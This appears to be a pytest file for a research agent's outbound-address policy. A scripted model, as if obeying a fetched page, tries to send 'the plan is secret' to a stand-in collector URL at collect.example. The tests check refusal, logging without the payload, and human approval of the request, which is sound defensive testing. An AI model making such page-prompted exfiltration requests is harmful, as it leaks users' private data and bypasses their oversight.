"""What an agent that obeys a page can still send out: nothing but addresses that somebody showed."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.types import Command

from stepwell.demo.web import OfflineWorld
from stepwell.demo.web.serving import Received, ServedResponse
from stepwell.research.audit.exchanges.receipt import egress_receipt
from stepwell.research.audit.memory_vault import MemoryVault
from stepwell.research.audit.vault import VAULT
from stepwell.research.deep.agent import build_agent
from stepwell.testing import ScriptedModel, call, say

from .test_deep import deep_kit

START, NEXT = "https://start.example/", "https://next.example/page?id=7&lang=en"
LEAK = "https://collect.example/?notes=the+plan+is+secret"
WORDS = " ".join(["The bridge was opened in 1931 and carries a road over the river."] * 20)
PAGE = f'<html><body><p>{WORDS}</p><a href="{NEXT.replace("&", "&amp;")}">more</a></body></html>'.encode()


@pytest.fixture
def world() -> Iterator[OfflineWorld]:
    hosts = {urlsplit(url).hostname for url in (START, NEXT, LEAK)}

    def page(request: Received) -> ServedResponse | None:
        return ServedResponse(body=PAGE) if request.host in hosts and request.path != "/robots.txt" else None

    with OfflineWorld(extra=page, idle_timeout_s=60.0) as made:
        yield made


def told(result: dict[str, Any]) -> list[str]:
    return [message.text for message in result["messages"] if message.type == "tool"]


class Thread:
    """A thread of deep research whose model does what it is told, step by step."""

    def __init__(self, world: OfflineWorld, folder: Path, *urls: str, rule: str = "shown") -> None:
        script = [*(call("fetch_page", url=url) for url in urls), say("Done.")]
        self.vault = MemoryVault()
        self.graph = build_agent(
            deep_kit(world, ScriptedModel(script), folder, after_reading=rule), checkpointer=InMemorySaver()
        )
        self.config: Any = {"configurable": {"thread_id": "t", VAULT: self.vault}}

    async def ask(self, question: str = "What is known?") -> dict[str, Any]:
        result: dict[str, Any] = await self.graph.ainvoke({"messages": [("user", question)]}, self.config)
        return result

    async def answer(self, answer: Any) -> dict[str, Any]:
        result: dict[str, Any] = await self.graph.ainvoke(Command(resume=answer), self.config)
        return result


async def test_an_address_that_nobody_showed_is_refused_once_a_page_was_read(world: OfflineWorld, tmp_path: Path) -> None:
    thread = Thread(world, tmp_path, START, LEAK, NEXT)
    first, leak, linked = told(await thread.ask())
    assert "Source s1" in first
    assert "addresses.after_reading" in leak
    assert "Source s2" in linked, "a page that was read leads there"
    assert world.count("collect.example") == 0
    (refused,) = egress_receipt(await thread.vault.entries())["refused"]
    assert (refused["rule"], refused["host"]) == ("addresses.after_reading", "collect.example")
    assert "secret" not in repr(await thread.vault.entries()), "what it carried is not written down either"


async def test_an_address_of_the_question_may_be_fetched(world: OfflineWorld, tmp_path: Path) -> None:
    _, second = told(await Thread(world, tmp_path, START, LEAK).ask(f"Compare it with <{LEAK}>."))
    assert "Source s2" in second


async def test_an_address_that_was_read_is_known_to_the_next_process_too(world: OfflineWorld, tmp_path: Path) -> None:
    first = Thread(world, tmp_path, START)
    await first.ask()
    again = Thread(world, tmp_path, "https://start.example/#part", "http://start.example/")
    again.vault, again.config = first.vault, first.config
    _, in_clear = told(await again.ask("And again?"))
    assert "addresses.after_reading" not in in_clear


@pytest.mark.parametrize("rule", ["shown", "ask"])
async def test_the_first_page_is_free(world: OfflineWorld, tmp_path: Path, rule: str) -> None:
    """Nobody else has said anything to the model yet."""
    (first,) = told(await Thread(world, tmp_path, LEAK, rule=rule).ask())
    assert "Source s1" in first


@pytest.mark.parametrize(
    ("answer", "sent"),
    [(True, 1), ("yes", 1), ({"decision": "approve"}, 1), (False, 0), ("perhaps", 0), ({"decision": "reject"}, 0)],
)
async def test_a_new_host_with_a_query_can_be_asked_about(world: OfflineWorld, tmp_path: Path, answer: Any, sent: int) -> None:
    thread = Thread(world, tmp_path, START, LEAK, rule="ask")
    state = await thread.ask()
    (question,) = state["__interrupt__"]
    assert (question.value["type"], question.value["url"]) == ("address_approval", LEAK)
    assert world.count("collect.example") == 0
    last = told(await thread.answer(answer))[-1]
    assert ("Source s2" in last) is bool(sent)
    asked = [request for request in world.requests if request.host == "collect.example" and request.path != "/robots.txt"]
    assert len(asked) == sent


async def test_a_policy_may_allow_every_address(world: OfflineWorld, tmp_path: Path) -> None:
    assert all("Source s" in text for text in told(await Thread(world, tmp_path, START, LEAK, rule="any").ask()))
